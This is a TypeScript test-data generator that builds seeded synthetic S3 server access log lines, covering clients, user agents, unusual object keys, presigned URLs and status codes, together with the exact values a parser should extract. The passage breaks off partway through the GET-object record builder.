/**
 * Seeded synthetic S3 server access log generator (FORMAT.md, EDGE_CASES.md) that also returns the
 * ground truth: the exact values the parser must produce for every line. Used by property tests,
 * end-to-end tests and `npm run bench`.
 *
 * Truth is correct by construction: every field is generated as a value first and only then written
 * as log text, so the row never has to be re-parsed from the line. Generated values keep the line
 * unambiguous for the parser rules (no `" ` inside a quoted value, no space inside a token field).
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseArgs } from 'node:util';
import { ACCESS_LOG_COLUMNS, KNOWN_FIELD_COUNT, type ColumnName } from '../schemas/accessLog.js';
import { Random, WeightedPicker } from './random.js';

/** The parsed values of one log line: one property per schema column, `null` for SQL NULL. */
export interface ExpectedRow {
  bucketowner: string | null;
  bucket_name: string | null;
  /** Epoch milliseconds, UTC. */
  requestdatetime: number | null;
  remoteip: string | null;
  requester: string | null;
  requestid: string | null;
  operation: string | null;
  key: string | null;
  request_uri: string | null;
  httpstatus: number | null;
  errorcode: string | null;
  bytessent: number | null;
  objectsize: number | null;
  totaltime: number | null;
  turnaroundtime: number | null;
  referrer: string | null;
  useragent: string | null;
  versionid: string | null;
  hostid: string | null;
  sigv: string | null;
  ciphersuite: string | null;
  authtype: string | null;
  endpoint: string | null;
  tlsversion: string | null;
  accesspointarn: string | null;
  aclrequired: boolean | null;
  sourceregion: string | null;
  request_method: string | null;
  request_path: string | null;
  request_query: string | null;
  request_protocol: string | null;
  key_decoded: string | null;
  field_count: number;
  extra_fields: string | null;
}

// Compile-time guard: ExpectedRow has exactly the schema's columns, no more, no fewer.
type MissingColumns = Exclude<ColumnName, keyof ExpectedRow>;
type UnknownColumns = Exclude<keyof ExpectedRow, ColumnName>;
const columnsMatch: [MissingColumns, UnknownColumns] extends [never, never] ? true : never = true;
void columnsMatch;

export type Layout = 'simple' | 'date-based';

export interface GenerateOptions {
  seed: number;
  /** Key date, `YYYY-MM-DD` (UTC): delivery date (simple) or event date (date-based). */
  keyDate: string;
  layout: Layout;
  /** Destination prefix, e.g. `logs/` or `emr` (S3 adds no separator). Default ''. */
  prefix?: string;
  /** Source account id, used in date-based keys and ARNs. Default 123456789012. */
  accountId?: string;
  /** Source region. Default us-east-1. */
  region?: string;
  /** Source bucket names. Default: three buckets. */
  buckets?: string[];
  /** Number of objects. Default 10 when targetBytes is not set, otherwise unlimited. */
  objects?: number;
  /** Stop once the total body size reaches this; the last object is cut to fit. */
  targetBytes?: number;
  /** Body size bounds of one object. Defaults 4 KiB and 6 MiB; sizes are log-normal between. */
  minObjectBytes?: number;
  maxObjectBytes?: number;
  /**
   * Share of records timed before the key date, up to ~9 days back. Default 0.02. Applies to the
   * date-based layout too (strict EventTime delivery would be 0) so partitioning by record time is exercised.
   */
  lateFraction?: number;
  /** Share of records with 1-2 fields beyond the 27th. Default 0.01. */
  extraFieldsFraction?: number;
  /** Share of requests with raw `"` inside Referer / User-Agent / Request-URI. Default 0.01. */
  quoteFraction?: number;
  /** Share of records written with an older width: 18, 24, 25 or 26 fields. Default 0.02. */
  oldFormatFraction?: number;
  /** Share of lines that are junk, truncated or two glued records. Default 0. */
  rejectFraction?: number;
}

export interface RejectLine {
  /** 1-based line number in the object body. */
  line: number;
  kind: 'junk' | 'truncated' | 'glued';
}

export interface GeneratedObject {
  /** Object key exactly as S3 delivers it (FORMAT.md §4). */
  key: string;
  /** Source bucket of every record in the object. */
  bucket: string;
  body: Buffer;
  /** Truth for every valid line, in line order (reject lines have no row). */
  rows: ExpectedRow[];
  /** Number of lines in body (rows.length + rejects.length). */
  lines: number;
  rejects: RejectLine[];
}

interface Settings {
  seed: number;
  dayStart: number;
  keyDate: string;
  layout: Layout;
  prefix: string;
  accountId: string;
  region: string;
  buckets: string[];
  objects: number;
  targetBytes: number;
  minObjectBytes: number;
  maxObjectBytes: number;
  lateFraction: number;
  extraFieldsFraction: number;
  quoteFraction: number;
  oldFormatFraction: number;
  rejectFraction: number;
}

const DAY_MS = 86_400_000;
export const DEFAULT_BUCKETS = ['example-web-assets', 'example-data-lake', 'media.example.org'];

function fraction(name: string, value: number | undefined, fallback: number): number {
  const v = value ?? fallback;
  if (!(v >= 0 && v <= 1)) throw new RangeError(`genLogs: \`${name}\` must be within [0, 1], got ${v}`);
  return v;
}

function resolveOptions(o: GenerateOptions): Settings {
  const m = /^(\d{4})-(\d{2})-(\d{2})$/.exec(o.keyDate);
  const dayStart = m ? Date.UTC(Number(m[1]), Number(m[2]) - 1, Number(m[3])) : NaN;
  if (!m || new Date(dayStart).toISOString().slice(0, 10) !== o.keyDate) {
    throw new RangeError(`genLogs: \`keyDate\` must be a real date YYYY-MM-DD, got ${JSON.stringify(o.keyDate)}`);
  }
  if (o.layout !== 'simple' && o.layout !== 'date-based') {
    throw new RangeError(`genLogs: \`layout\` must be simple or date-based, got ${JSON.stringify(o.layout)}`);
  }
  const buckets = o.buckets ?? DEFAULT_BUCKETS;
  if (buckets.length === 0 || buckets.some((b) => !/^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$/.test(b))) {
    throw new RangeError(`genLogs: \`buckets\` must be non-empty S3 bucket names, got ${JSON.stringify(buckets)}`);
  }
  const accountId = o.accountId ?? '123456789012';
  if (!/^\d{12}$/.test(accountId)) throw new RangeError(`genLogs: \`accountId\` must be 12 digits, got ${accountId}`);
  const minObjectBytes = o.minObjectBytes ?? 4 * 1024;
  const maxObjectBytes = o.maxObjectBytes ?? 6 * 1024 * 1024;
  if (!(minObjectBytes > 0 && maxObjectBytes >= minObjectBytes)) {
    throw new RangeError('genLogs: need 0 < `minObjectBytes` <= `maxObjectBytes`');
  }
  const targetBytes = o.targetBytes ?? Infinity;
  const objects = o.objects ?? (o.targetBytes === undefined ? 10 : Infinity);
  if (!(targetBytes > 0) || !(objects >= 0)) throw new RangeError('genLogs: `targetBytes` must be > 0 and `objects` >= 0');
  return {
    seed: o.seed,
    dayStart,
    keyDate: o.keyDate,
    layout: o.layout,
    prefix: o.prefix ?? '',
    accountId,
    region: o.region ?? 'us-east-1',
    buckets,
    objects,
    targetBytes,
    minObjectBytes,
    maxObjectBytes,
    lateFraction: fraction('lateFraction', o.lateFraction, 0.02),
    extraFieldsFraction: fraction('extraFieldsFraction', o.extraFieldsFraction, 0.01),
    quoteFraction: fraction('quoteFraction', o.quoteFraction, 0.01),
    oldFormatFraction: fraction('oldFormatFraction', o.oldFormatFraction, 0.02),
    rejectFraction: fraction('rejectFraction', o.rejectFraction, 0),
  };
}

// ---- the simulated account: buckets, their objects, the clients that call them ------------------

/** One log record as values; `formatRecord` turns it into text and truth. */
export interface Rec {
  bucketowner: string;
  bucket: string;
  time: number;
  remoteip: string | null;
  requester: string | null;
  requestid: string;
  operation: string;
  key: string | null;
  keyDecoded: string | null;
  /** Request line parts; `method === null` means Request-URI is null (written as `uriNull`). */
  method: string | null;
  path: string;
  query: string | null;
  protocol: string;
  uriNull: '-' | '"-"';
  httpstatus: number | null;
  errorcode: string | null;
  bytessent: number | null;
  objectsize: number | null;
  totaltime: number | null;
  turnaroundtime: number | null;
  referrer: string | null;
  useragent: string | null;
  /** How a null Referer / User-Agent is written: `"-"` normally, bare `-` on copy-GET and batch records. */
  quotedNull: '-' | '"-"';
  versionid: string | null;
  hostid: string;
  sigv: string | null;
  ciphersuite: string | null;
  authtype: string | null;
  endpoint: string | null;
  tlsversion: string | null;
  accesspointarn: string | null;
  aclrequired: boolean;
  sourceregion: string | null;
}

interface StoredObject {
  key: string;
  size: number;
  version: string | null;
}

interface BucketInfo {
  name: string;
  versioned: boolean;
  objects: StoredObject[];
  accessPoint: string | null;
}

type ClientKind = 'sdk' | 'cli' | 'emr' | 'console' | 'cloudfront' | 'presigned' | 'anonymous' | 'sigv2';

interface Client {
  kind: ClientKind;
  ip: string;
  requester: string | null;
  ua: string;
  sigv: 'SigV2' | 'SigV4' | null;
  auth: 'AuthHeader' | 'QueryString' | null;
  accessKeyId: string;
  tls: readonly [cipher: string, version: string] | null;
  /** Host header style: virtual-hosted, path-style, dual-stack (IPv6 clients) or a CNAME. */
  host: 'virtual' | 'path' | 'dualstack' | 'cname';
  pathEndpoint: string;
  sourceRegion: string | null;
  /** AWS SDK for JavaScript v3 adds `x-id=<Operation>` to every request line. */
  addsXId: boolean;
}

interface World {
  accountId: string;
  region: string;
  owner: string;
  buckets: BucketInfo[];
  clients: Client[];
  authed: Client[];
  browsers: Client[];
}

const DAY_S = 86_400;
const VERSION_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._';
const UPLOAD_ID_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';
const USERS = ['alice', 'bob', 'carol', 'deploy-bot', 'ci@example.com', 'data.eng', 'mallory'];
const WORDS = ['report', 'invoice', 'summary', 'photo', 'backup', 'draft', 'final', 'budget'];
const TLS12 = ['ECDHE-RSA-AES128-GCM-SHA256', 'ECDHE-RSA-AES256-GCM-SHA384', 'ECDHE-RSA-AES128-SHA'];
const TLS13 = ['TLS_AES_128_GCM_SHA256', 'TLS_AES_256_GCM_SHA384', 'TLS_CHACHA20_POLY1305_SHA256'];
const BOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'curl/8.5.0',
  'Wget/1.21.4',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
];

function chromeVersion(r: Random): string {
  return `${r.int(110, 131)}.0.${r.int(5000, 6800)}.${r.int(10, 250)}`;
}

function kernel(r: Random): string {
  return r.chance(0.5) ? `5.10.${r.int(100, 230)}-${r.int(100, 230)}.${r.int(700, 900)}.amzn2.x86_64` : `6.1.${r.int(50, 120)}-${r.int(60, 180)}.${r.int(100, 250)}.amzn2023.x86_64`;
}

function browserUa(r: Random): string {
  switch (r.int(0, 6)) {
    case 0:
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chromeVersion(r)} Safari/537.36`;
    case 1:
      return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${r.int(15, 17)}.${r.int(0, 6)} Safari/605.1.15`;
    case 2: {
      const major = r.int(15, 17);
      const minor = r.int(0, 7);
      return `Mozilla/5.0 (iPhone; CPU iPhone OS ${major}_${minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${major}.${minor} Mobile/15E148 Safari/604.1`;
    }
    case 3: {
      const v = r.int(100, 128);
      return `Mozilla/5.0 (X11; Linux x86_64; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`;
    }
    case 4:
      return `Mozilla/5.0 (Linux; Android ${r.int(10, 14)}; SM-G${r.int(900, 999)}B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chromeVersion(r)} Mobile Safari/537.36`;
    case 5:
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chromeVersion(r)} Safari/537.36 Edg/${chromeVersion(r)}`;
    default:
      return r.pick(BOTS);
  }
}

function sdkUa(r: Random): { ua: string; addsXId: boolean } {
  switch (r.int(0, 4)) {
    case 0: {
      const v = `3.${r.int(400, 700)}.0`;
      return { ua: `aws-sdk-js/${v} ua/2.0 os/linux#${kernel(r)} lang/js md/nodejs#20.${r.int(5, 18)}.${r.int(0, 3)} api/s3#${v}`, addsXId: true };
    }
    case 1: {
      const v = `1.34.${r.int(0, 160)}`;
      return { ua: `Boto3/${v} md/Botocore#${v} ua/2.0 os/linux#${kernel(r)} md/arch#x86_64 lang/python#3.12.${r.int(0, 8)} md/pyimpl#CPython cfg/retry-mode#legacy Botocore/${v}`, addsXId: false };
    }
    case 2:
      return { ua: `aws-sdk-java/1.12.${r.int(300, 780)} Linux/${kernel(r)} OpenJDK_64-Bit_Server_VM/17.0.${r.int(5, 12)}+${r.int(1, 12)}-LTS java/17.0.${r.int(5, 12)} vendor/Amazon.com_Inc. exec-env/AWS_ECS_FARGATE`, addsXId: false };
    case 3:
      return { ua: `aws-sdk-go-v2/1.24.${r.int(0, 9)} os/linux lang/go#1.21.${r.int(0, 9)} md/GOOS#linux md/GOARCH#amd64 api/s3#1.48.${r.int(0, 9)}`, addsXId: false };
    default:
      return { ua: `rclone/v1.65.${r.int(0, 3)}`, addsXId: false };
  }
}

function emrUa(r: Random): string {
  const java = `aws-sdk-java/1.12.${r.int(300, 780)} Linux/${kernel(r)} OpenJDK_64-Bit_Server_VM/25.${r.int(292, 402)}-b08 java/1.8.0_${r.int(292, 402)}`;
  // Commas, braces and brackets inside a User-Agent, as EMR and Athena send them (EDGE #25).
  return r.chance(0.5) ? `ElasticMapReduce/1.0.0 emrfs/s3n {} user:hadoop,groups:[hadoop], ${java} scala/2.12.17 vendor/Amazon.com_Inc.` : `AWS_ATHENA, ${java} vendor/Amazon.com_Inc., presto`;
}

function publicIpv4(r: Random): string {
  return `${r.int(1, 223)}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
}

function privateIpv4(r: Random): string {
  return r.chance(0.5) ? `10.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}` : `172.31.${r.int(0, 255)}.${r.int(1, 254)}`;
}

function ipv6(r: Random): string {
  const group = (): string => r.int(0, 0xffff).toString(16);
  return r.chance(0.5) ? `2600:1f18:${group()}:${group()}:${group()}:${group()}:${group()}:${group()}` : `2a02:c7f:${group()}:${group()}::${group()}`;
}

function canonicalId(r: Random): string {
  return r.hex(64);
}

function iamUser(r: Random, account: string): string {
  return `arn:aws:iam::${account}:user/${r.pick(USERS)}`;
}

function assumedRole(r: Random, account: string): string {
  switch (r.int(0, 2)) {
    case 0:
      return `arn:aws:sts::${account}:assumed-role/app-prod-task/${r.int(1e9, 2e9)}${r.int(1e8, 9e8)}`;
    case 1:
      return `arn:aws:sts::${account}:assumed-role/EMR_EC2_DefaultRole/i-0${r.hex(16)}`;
    default:
      return `arn:aws:sts::${account}:assumed-role/AWSReservedSSO_AdministratorAccess_${r.hex(16)}/${r.pick(USERS).split('@')[0]}@example.com`;
  }
}

function tlsFor(r: Random): readonly [string, string] {
  return r.chance(0.35) ? [r.pick(TLS13), 'TLSv1.3'] : [r.pick(TLS12), 'TLSv1.2'];
}

const CLIENT_KINDS = new WeightedPicker<ClientKind>([
  ['sdk', 30], ['cli', 6], ['emr', 10], ['console', 4], ['cloudfront', 8], ['presigned', 14], ['anonymous', 22], ['sigv2', 6],
]);

function makeClient(r: Random, account: string, region: string): Client {
  const kind = CLIENT_KINDS.pick(r);
  const insideAws = kind === 'sdk' || kind === 'cli' || kind === 'emr' || kind === 'sigv2';
  const v6 = !insideAws && kind !== 'cloudfront' && r.chance(0.12);
  const c: Client = {
    kind,
    ip: insideAws ? (r.chance(0.6) ? privateIpv4(r) : publicIpv4(r)) : v6 ? ipv6(r) : publicIpv4(r),
    requester: null,
    ua: browserUa(r),
    sigv: 'SigV4',
    auth: 'AuthHeader',
    accessKeyId: (r.chance(0.5) ? 'AKIA' : 'ASIA') + r.upperAlnum(16),
    tls: tlsFor(r),
    host: v6 ? 'dualstack' : r.chance(0.2) ? 'path' : 'virtual',
    pathEndpoint: r.pick([`s3.${region}.amazonaws.com`, region === 'us-east-1' ? 's3.amazonaws.com' : `s3-${region}.amazonaws.com`]),
    sourceRegion: insideAws ? (r.chance(0.8) ? region : r.pick(['us-west-2', 'eu-west-1', 'ap-southeast-2'])) : null,
    addsXId: false,
  };
  switch (kind) {
    case 'sdk': {
      const sdk = sdkUa(r);
      c.ua = sdk.ua;
      c.addsXId = sdk.addsXId;
      c.requester = r.chance(0.7) ? assumedRole(r, account) : iamUser(r, account);
      break;
    }
    case 'cli':
      c.ua = `aws-cli/2.15.${r.int(0, 60)} Python/3.11.${r.int(4, 8)} Linux/${kernel(r)} exe/x86_64.amzn.2023 prompt/off command/s3.${r.pick(['cp', 'sync', 'ls', 'rm'])}`;
      c.requester = iamUser(r, account);
      break;
    case 'emr':
      c.ua = emrUa(r);
      c.requester = assumedRole(r, account);
      c.host = r.chance(0.5) ? 'path' : 'virtual';
      break;
    case 'console':
      c.ua = `S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.${r.int(300, 780)} Linux/${kernel(r)} OpenJDK_64-Bit_Server_VM/25.${r.int(292, 402)}-b08 java/1.8.0_${r.int(292, 402)} vendor/Oracle_Corporation cfg/retry-mode/standard`;
      c.requester = r.chance(0.5) ? iamUser(r, account) : assumedRole(r, account);
      c.sourceRegion = region;
      break;
    case 'cloudfront':
      c.ua = 'Amazon CloudFront';
      c.requester = r.hex(96); // CloudFront OAI canonical IDs are 96 hex digits (EDGE #19)
      c.ip = `${r.pick([13, 18, 52, 54, 64, 130, 204])}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
      c.host = 'virtual';
      break;
    case 'presigned':
      c.requester = c.accessKeyId.startsWith('ASIA') ? assumedRole(r, account) : iamUser(r, account);
      c.auth = 'QueryString';
      c.sigv = r.chance(0.85) ? 'SigV4' : 'SigV2';
      break;
    case 'anonymous':
      c.sigv = null;
      c.auth = null;
      if (r.chance(0.3)) c.tls = null; // plain HTTP
      if (c.tls === null && !v6 && r.chance(0.5)) c.host = 'cname';
      break;
    case 'sigv2':
      c.ua = r.chance(0.5) ? `Boto/2.49.0 Python/2.7.18 Linux/4.14.${r.int(100, 300)}-${r.int(100, 250)}.amzn2.x86_64` : `aws-sdk-ruby2/2.11.${r.int(100, 600)} ruby/2.7.${r.int(1, 8)} x86_64-linux`;
      c.requester = r.chance(0.5) ? iamUser(r, account) : canonicalId(r);
      c.sigv = 'SigV2';
      c.tls = [r.pick(TLS12), 'TLSv1.2'];
      break;
  }
  return c;
}

function clampSize(n: number, min: number, max: number): number {
  return Math.max(min, Math.min(max, Math.round(n)));
}

function isoDate(ms: number): string {
  return new Date(ms).toISOString().slice(0, 10);
}

/** Real object keys (before S3's encoding): spaces, `=`, `+`, `%`, `?`, unicode, huge objects. */
function makeStoredObject(r: Random, dayStart: number, versioned: boolean): StoredObject {
  const date = isoDate(dayStart - r.int(0, 400) * DAY_S * 1000);
  const [y, m, d] = date.split('-') as [string, string, string];
  let key: string;
  let size: number;
  switch (r.int(0, 11)) {
    case 0:
    case 1:
      key = `images/${y}/${m}/${d}/IMG_${r.int(1000, 9999)}.jpg`;
      size = clampSize(r.logNormal(800_000, 0.8), 20_000, 30_000_000);
      break;
    case 2:
      key = `static/${r.pick(['js/main', 'js/vendor', 'css/app'])}.${r.hex(8)}.${r.pick(['js', 'css'])}`;
      size = clampSize(r.logNormal(150_000, 1), 1_000, 5_000_000);
      break;
    case 3:
    case 4:
      key = `warehouse/events/dt=${date}/hour=${pad2(r.int(0, 23))}/part-${String(r.int(0, 199)).padStart(5, '0')}-${r.hex(8)}-${r.hex(4)}-${r.hex(4)}-${r.hex(4)}-${r.hex(12)}.c000.snappy.parquet`;
      size = clampSize(r.logNormal(60_000_000, 1), 100_000, 2_000_000_000);
      break;
    case 5:
      key = `uploads/${r.pick(USERS)}/Screen Shot ${date} at ${r.int(1, 12)}.${pad2(r.int(0, 59))}.${pad2(r.int(0, 59))} PM.png`;
      size = clampSize(r.logNormal(500_000, 0.7), 10_000, 20_000_000);
      break;
    case 6:
      key = r.pick([
        `docs/Résumé ${r.pick(USERS)}.pdf`,
        `docs/報告書_${r.int(1, 99)}.xlsx`,
        `música/canción número ${r.int(1, 40)}.mp3`,
        `naïve café/menü-${r.int(1, 9)}.txt`,
        `emoji/🎉 party ${r.int(1, 20)}.gif`,
      ]);
      size = clampSize(r.logNormal(300_000, 1.2), 100, 50_000_000);
      break;
    case 7:
      key = r.pick([
        `tmp/a+b (copy ${r.int(1, 9)}).txt`,
        `reports/Q${r.int(1, 4)} 100% done & ready?.csv`,
        `odd/key with  two  spaces ${r.int(1, 9)}.txt`,
        `odd/semi;colon,comma=eq ${r.int(1, 9)}.txt`,
        `odd/~tilde*star'quote!(${r.int(1, 9)}).txt`,
        `odd/literal%41percent-${r.int(1, 9)}.txt`,
      ]);
      size = clampSize(r.logNormal(5_000, 1.5), 1, 1_000_000);
      break;
    case 8:
      // Beyond 2^31: int64 columns must hold these (EDGE #8).
      key = `backups/${date}/db-full-${r.hex(6)}.tar.gz`;
      size = clampSize(r.logNormal(30_000_000_000, 1.2), 3_000_000_000, 400_000_000_000);
      break;
    case 9:
      key = `videos/${r.hex(12)}/master_${r.int(360, 2160)}p.mp4`;
      size = clampSize(r.logNormal(2_000_000_000, 1), 50_000_000, 20_000_000_000);
      break;
    case 10:
      key = `logs/app/${y}/${m}/${d}/app-${pad2(r.int(0, 23))}.log.gz`;
      size = clampSize(r.logNormal(2_000_000, 1), 1_000, 100_000_000);
      break;
    default:
      key = r.pick(['index.html', 'favicon.ico', 'robots.txt', 'about/index.html', `blog/${y}/${r.pick(WORDS)}-${r.int(1, 99)}.html`]);
      size = clampSize(r.logNormal(20_000, 1), 200, 500_000);
  }
  return { key, size, version: versioned ? r.fromAlphabet(VERSION_ALPHABET, 32) : null };
}

function createWorld(r: Random, o: { accountId: string; region: string; buckets: string[]; dayStart: number }): World {
  const buckets = o.buckets.map((name, i): BucketInfo => {
    const versioned = i % 2 === 1;
    const objects = Array.from({ length: 400 }, () => makeStoredObject(r, o.dayStart, versioned));
    return { name, versioned, objects, accessPoint: i === 0 ? `arn:aws:s3:${o.region}:${o.accountId}:accesspoint/readers-ap` : null };
  });
  const clients = Array.from({ length: 500 }, () => makeClient(r, o.accountId, o.region));
  return {
    accountId: o.accountId,
    region: o.region,
    owner: canonicalId(r), // all buckets of one account have one owner
    buckets,
    clients,
    authed: clients.filter((c) => c.requester !== null && c.auth === 'AuthHeader'),
    browsers: clients.filter((c) => c.kind === 'anonymous'),
  };
}

// ---- key encoding (FORMAT.md §3) ----------------------------------------------------------------

/** RFC 3986 encoding of a key as a path: everything but unreserved characters and `/`. */
function encodePath(key: string): string {
  return encodeURIComponent(key)
    .replace(/%2F/g, '/')
    .replace(/[!'()*]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase());
}

/** REST/WEBSITE key field: the client's path encoding, encoded again (`%3D` is logged `%253D`). */
function restKeyField(key: string): string {
  return encodePath(key).replace(/%/g, '%25');
}

/** BATCH.DELETE.OBJECT and S3.* lifecycle key field: encoded once, space as `+`. */
function formKeyField(key: string): string {
  return encodePath(key).replace(/%20/g, '+');
}

// ---- building records ---------------------------------------------------------------------------

type Status = readonly [status: number, error: string | null];

const GET_STATUS = new WeightedPicker<Status>([
  [[200, null], 78], [[206, null], 9], [[304, null], 4], [[404, 'NoSuchKey'], 3], [[403, 'AccessDenied'], 3], [[503, 'SlowDown'], 1.5], [[500, 'InternalError'], 0.3],
]);
const ANONYMOUS_GET_STATUS = new WeightedPicker<Status>([
  [[200, null], 60], [[304, null], 10], [[403, 'AccessDenied'], 19], [[404, 'NoSuchKey'], 10], [[503, 'SlowDown'], 1],
]);
const HEAD_STATUS = new WeightedPicker<Status>([[[200, null], 85], [[404, 'NoSuchKey'], 10], [[403, 'AccessDenied'], 4], [[503, 'SlowDown'], 1]]);
const WRITE_STATUS = new WeightedPicker<Status>([[[200, null], 95], [[403, 'AccessDenied'], 2], [[503, 'SlowDown'], 2.5], [[500, 'InternalError'], 0.5]]);
const LIST_STATUS = new WeightedPicker<Status>([[[200, null], 90], [[403, 'AccessDenied'], 8], [[503, 'SlowDown'], 2]]);
const ERROR_BYTES: Record<string, number> = { AccessDenied: 243, SlowDown: 298, InternalError: 282, NoSuchBucketPolicy: 297, NoSuchTagSet: 293, NoSuchKey: 200 };
const MISSING_KEYS = ['favicon.ico', 'robots.txt', '.env', 'wp-login.php', 'apple-touch-icon-152x152.png', '.git/config'];

function errorBytes(code: string, key: string | null): number {
  return (ERROR_BYTES[code] ?? 250) + (code === 'NoSuchKey' && key !== null ? key.length : 0);
}

function hostId(r: Random): string {
  return r.chance(0.7) ? r.base64(75) + '=' : r.base64(86) + '==';
}

function compactTime(ms: number): string {
  return new Date(ms).toISOString().replace(/[-:]/g, '').slice(0, 15) + 'Z';
}

function presignedQuery(r: Random, w: World, c: Client, time: number): string {
  const signedAt = time - r.int(0, 3000) * 1000;
  if (c.sigv === 'SigV2') {
    const signature = encodeURIComponent(r.base64(27) + '=');
    return `AWSAccessKeyId=${c.accessKeyId}&Expires=${Math.floor(signedAt / 1000) + 3600}&Signature=${signature}`;
  }
  const stamp = compactTime(signedAt);
  let q = `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${c.accessKeyId}%2F${stamp.slice(0, 8)}%2F${w.region}%2Fs3%2Faws4_request&X-Amz-Date=${stamp}&X-Amz-Expires=${r.pick([300, 900, 3600, 604800])}`;
  if (c.accessKeyId.startsWith('ASIA')) q += `&X-Amz-Security-Token=${encodeURIComponent(r.base64(300))}`;
  q += `&X-Amz-SignedHeaders=host&X-Amz-Signature=${r.hex(64)}`;
  if (r.chance(0.3)) q = `response-content-disposition=attachment%3B%20filename%3D%22${r.pick(WORDS)}.pdf%22&` + q;
  return q;
}

function timing(r: Random, rec: Rec, transferBytes: number): void {
  const turnaround = Math.max(1, Math.round(r.logNormal(12, 0.9)));
  const transferMs = transferBytes / r.logNormal(40_000, 0.8); // bytes per millisecond
  rec.turnaroundtime = turnaround;
  rec.totaltime = Math.min(2_147_483_647, turnaround + Math.round(transferMs) + r.int(0, 3));
}

function baseRecord(w: World, r: Random, b: BucketInfo, c: Client, time: number, operation: string): Rec {
  return {
    bucketowner: w.owner,
    bucket: b.name,
    time,
    remoteip: c.ip,
    requester: c.requester,
    requestid: r.upperAlnum(16),
    operation,
    key: null,
    keyDecoded: null,
    method: null,
    path: '/',
    query: null,
    protocol: r.chance(0.01) ? 'HTTP/1.0' : 'HTTP/1.1',
    uriNull: '"-"',
    httpstatus: null,
    errorcode: null,
    bytessent: null,
    objectsize: null,
    totaltime: null,
    turnaroundtime: null,
    referrer: c.kind === 'anonymous' || c.kind === 'presigned' ? (r.chance(0.4) ? `https://www.example.org/${r.pick(WORDS)}/${r.int(1, 500)}` : null) : null,
    useragent: c.ua,
    quotedNull: '"-"',
    versionid: null,
    hostid: hostId(r),
    sigv: c.sigv,
    ciphersuite: c.tls === null ? null : c.tls[0],
    authtype: c.auth,
    endpoint: null,
    tlsversion: c.tls === null ? null : c.tls[1],
    accesspointarn: null,
    aclrequired: c.requester !== null && r.chance(0.02),
    sourceregion: c.sourceRegion,
  };
}

/** Fills the request line and Host header; `encodedKey` null addresses the bucket itself. */
function request(w: World, r: Random, rec: Rec, b: BucketInfo, c: Client, method: string, encodedKey: string | null, query: string[], xId: string): void {
  if (c.addsXId) query.push(`x-id=${xId}`);
  rec.method = method;
  rec.query = query.length === 0 ? null : query.join('&');
  const objectPath = encodedKey === null ? '' : encodedKey;
  if (b.accessPoint !== null && c.kind === 'sdk' && r.chance(0.1)) {
    rec.accesspointarn = b.accessPoint;
    rec.endpoint = `readers-ap-${w.accountId}.s3-accesspoint.${w.region}.amazonaws.com`;
    rec.path = '/' + objectPath;
    return;
  }
  switch (c.host) {
    case 'path':
      rec.endpoint = c.pathEndpoint;
      rec.path = `/${b.name}` + (encodedKey === null ? '' : '/' + objectPath);
      return;
    case 'dualstack':
      rec.endpoint = `${b.name}.s3.dualstack.${w.region}.amazonaws.com`;
      break;
    case 'cname':
      // A bucket named like a domain can be served by a CNAME over plain HTTP (EDGE #22).
      rec.endpoint = b.name.includes('.') ? b.name : `${b.name}.s3.amazonaws.com`;
      break;
    default:
      rec.endpoint = `${b.name}.s3.${w.region}.amazonaws.com`;
  }
  rec.path = '/' + objectPath;
}

function setKey(rec: Rec, key: string, encoding: 'rest' | 'form'): void {
  rec.key = encoding === 'rest' ? restKeyField(key) : formKeyField(key);
  rec.keyDecoded = key;
}

function pickObject(r: Random, b: BucketInfo): StoredObject {
  return b.objects[r.skewedIndex(b.objects.length)] as StoredObject;
}

function pickClient(r: Random, pool: Client[]): Client {
  return pool[r.skewedIndex(pool.length, 2)] as Client;
}

function applyStatus(rec: Rec, status: Status, size: number, bodyBytes: number | null): void {
  rec.httpstatus = status[0];
  rec.errorcode = status[1];
  if (status[1] !== null) {
    rec.bytessent = errorBytes(status[1], rec.keyDecoded);
    rec.objectsize = null;
  } else {
    rec.bytessent = bodyBytes;
    rec.objectsize = size;
  }
}

function getObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = (c.requester === null ? ANONYMOUS_GET_STATUS : GET_STATUS).pick(r);
  const obj = status[1] === 'NoSuchKey' ? { key: r.pick(MISSING_KEYS), size: 0, version: null } : pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.GET.OBJECT');
  setKey(rec, obj.key, 'rest');
  const query: string[] = [];
  if (c.auth === 'QueryString') query.push(presignedQuery(r, w, c, time));
  else if (obj.version !== null && r.chance(0.05)) {
    query.push(`versionId=${obj.version}`);
    rec.versionid = obj.version;
  }
  request(w, r, rec, b, c, 'GET', encodePath(obj.key), query, 'GetObject');
  let body: number | null = obj.size;
  let effective = status;
  if (status[0] === 206) {
    if (obj.size < 2) effective = [200, null];
    else body = Math.min(obj.size - 1, r.pick([65_536, 1_048_576, 8_388_608, r.int(1, obj.size - 1)]));
  } else if (status[0] === 304) body = null;
  else if (status[0] === 200 && r.chance(0.02)) body = r.int(1, obj.size); // client went away mid-transfer
